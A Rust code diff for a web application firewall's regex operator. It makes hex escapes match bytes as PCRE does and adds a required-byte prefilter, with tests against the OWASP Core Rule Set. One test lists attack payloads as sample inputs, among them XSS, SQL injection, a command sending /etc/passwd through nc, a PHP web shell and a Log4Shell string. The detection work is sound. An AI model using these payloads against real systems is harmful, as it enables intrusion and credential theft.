@@ -12,6 +12,7 @@ pub struct Rx {
     /// `None` only for a parameter with macros that is not a valid regex before expansion.
     regex: Option<Regex>,
     literals: Option<Vec<Vec<u8>>>,
+    required: Option<prefilter::ByteSet>,
 }
 
 impl Rx {
@@ -19,23 +20,31 @@ impl Rx {
         if pattern.contains("%{") {
             // Macros are expanded per evaluation; the raw text need not be a valid regex.
             return Ok(Self {
-                regex: build(pattern).ok(),
+                regex: build(pattern).ok().map(|(regex, _)| regex),
                 literals: None,
+                required: None,
             });
         }
-        let regex = build(pattern)?;
+        let (regex, bytes_mode) = build(pattern)?;
+        let bytes_pattern = braced_hex_as_bytes(pattern);
         Ok(Self {
             regex: Some(regex),
-            literals: prefilter::regex_literals(pattern),
+            literals: prefilter::regex_literals(&bytes_pattern),
+            // The byte analysis reads the pattern as the bytes-mode regex does.
+            required: bytes_mode
+                .then(|| prefilter::required_bytes(&bytes_pattern))
+                .flatten(),
         })
     }
 }
 
 /// Bytes semantics first (as PCRE without UTF mode); a pattern that needs Unicode classes
 /// (e.g. a non-ASCII character inside `[...]`) falls back to Unicode mode.
-fn build(pattern: &str) -> Result<Regex, String> {
+fn build(pattern: &str) -> Result<(Regex, bool), String> {
+    let bytes_pattern = braced_hex_as_bytes(pattern);
     let builder = |unicode: bool| {
-        RegexBuilder::new(pattern)
+        let text: &str = if unicode { pattern } else { &bytes_pattern };
+        RegexBuilder::new(text)
             .dot_matches_new_line(true)
             .multi_line(true)
             .unicode(unicode)
@@ -44,8 +53,39 @@ fn build(pattern: &str) -> Result<Regex, String> {
             .build()
     };
     builder(false)
-        .or_else(|_| builder(true))
+        .map(|regex| (regex, true))
+        .or_else(|_| builder(true).map(|regex| (regex, false)))
         .map_err(|e| format!("@rx {pattern:?}: {e}"))
+}
+
+/// PCRE without UTF mode reads `\x{hh}` as the byte 0xhh (CRS 941310, 942432,
+/// 934120 spell UTF-8 sequences byte by byte that way); the regex crate reads
+/// it as a code point, so in bytes mode it becomes the fixed form `\xhh`.
+/// Code points above 0xFF and every other escape are kept as written.
+fn braced_hex_as_bytes(pattern: &str) -> std::borrow::Cow<'_, str> {
+    if !pattern.contains("\\x{") {
+        return std::borrow::Cow::Borrowed(pattern);
+    }
+    let mut out = String::with_capacity(pattern.len());
+    let mut rest = pattern;
+    while let Some(pos) = rest.find('\\') {
+        out.push_str(&rest[..pos]);
+        let escape = &rest[pos..];
+        if let Some(inner) = escape.strip_prefix("\\x{")
+            && let Some(end) = inner.find('}')
+            && let Ok(byte) = u8::from_str_radix(&inner[..end], 16)
+        {
+            out.push_str(&format!("\\x{byte:02X}"));
+            rest = &inner[end + 1..];
+            continue;
+        }
+        // Any other escape: the backslash and the character it escapes, verbatim.
+        let len = escape[1..].chars().next().map_or(0, char::len_utf8);
+        out.push_str(&escape[..1 + len]);
+        rest = &escape[1 + len..];
+    }
+    out.push_str(rest);
+    std::borrow::Cow::Owned(out)
 }
 
 impl Operator for Rx {
@@ -59,7 +99,7 @@ impl Operator for Rx {
         let dynamic;
         let regex = match expanded {
             Some(pattern) => match build(pattern) {
-                Ok(regex) => {
+                Ok((regex, _)) => {
                     dynamic = regex;
                     &dynamic
                 }
@@ -84,6 +124,10 @@ impl Operator for Rx {
 
     fn required_literals(&self) -> Option<Vec<Vec<u8>>> {
         self.literals.clone()
+    }
+
+    fn required_bytes(&self) -> Option<prefilter::ByteSet> {
+        self.required
     }
 }
 
@@ -135,6 +179,24 @@ mod tests {
     }
 
     #[test]
+    fn braced_hex_escapes_are_bytes_as_in_pcre() {
+        // CRS 941310: US-ASCII malformed `<` (0xBC) and `>` (0xBE) as single bytes.
+        let rx = Rx::compile(r"\x{bc}[^>\x{be}]*[>\x{be}]").unwrap();
+        assert!(rx.evaluate(b"\xbcscript\xbe", None, None));
+        assert!(!rx.evaluate("\u{bc}script".as_bytes(), None, None));
+        // CRS 942432: a UTF-8 quotation mark spelled byte by byte.
+        let rx = Rx::compile(r"\x{e2}\x80[\x98\x99]").unwrap();
+        assert!(rx.evaluate("\u{2019}".as_bytes(), None, None));
+        // Escaped backslashes and code points above 0xFF are kept as written.
+        assert_eq!(braced_hex_as_bytes(r"\\x{bc}"), r"\\x{bc}");
+        assert_eq!(braced_hex_as_bytes(r"\x{2019}\x{0a}"), r"\x{2019}\x0A");
+        assert!(matches!(
+            braced_hex_as_bytes("abc"),
+            std::borrow::Cow::Borrowed(_)
+        ));
+    }
+
+    #[test]
     fn expanded_pattern_is_used() {
         let rx = Rx::compile("^%{tx.x}$").unwrap();
         assert!(rx.evaluate(b"abc", Some("^abc$"), None));
@@ -174,6 +236,46 @@ mod crs_tests {
             with_literals += usize::from(rx.required_literals().is_some());
         }
         assert!(with_literals > 0);
+        // Soundness of the byte prefilter: whatever a CRS regex matches holds a required byte.
+        let samples: &[&[u8]] = &[
+            b"<script>alert(1)</script>",
+            b"1' or '1'='1' union select password from users--",
+            b"; cat /etc/passwd | nc 10.0.0.1 4444",
+            b"../../../../etc/shadow%00",
+            b"${jndi:ldap://x/a}",
+            b"<?php system($_GET['c']); ?>",
+            b"javascript:alert(document.cookie)",
+            b"\xbcscript\xbealert(\xa2XSS\xa2)\xbc/script\xbe",
+            "\u{2019} or \u{2019}1\u{2019}=\u{2019}1".as_bytes(),
+            b"http://169.254.169.254/latest/meta-data/",
+            b"sleep(10)#",
+            b"/bin/bash -c 'id'",
+            b"ping -n 10 127.0.0.1 && whoami",
+            b"{{7*7}}",
+            b"select * from information_schema.tables",
+            b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+            b"hello",
+        ];
+        let mut with_bytes = 0;
+        for pattern in &patterns {
+            let rx = Rx::compile(pattern).unwrap_or_else(|e| panic!("{e}"));
+            let Some(set) = rx.required_bytes() else {
+                continue;
+            };
+            with_bytes += 1;
+            for sample in samples {
+                for input in [sample.to_vec(), sample.to_ascii_lowercase()] {
+                    if rx.evaluate(&input, None, None) {
+                        assert!(
+                            set.found_in(&input),
+                            "{pattern} matched {input:?} without a required byte"
+                        );
+                    }
+                }
+            }
+        }
+        assert!(with_bytes > 0);
+        eprintln!("{with_bytes} CRS @rx with a required byte set");
         eprintln!(
             "{} CRS @rx, {with_literals} with prefilter literals",
             patterns.len()
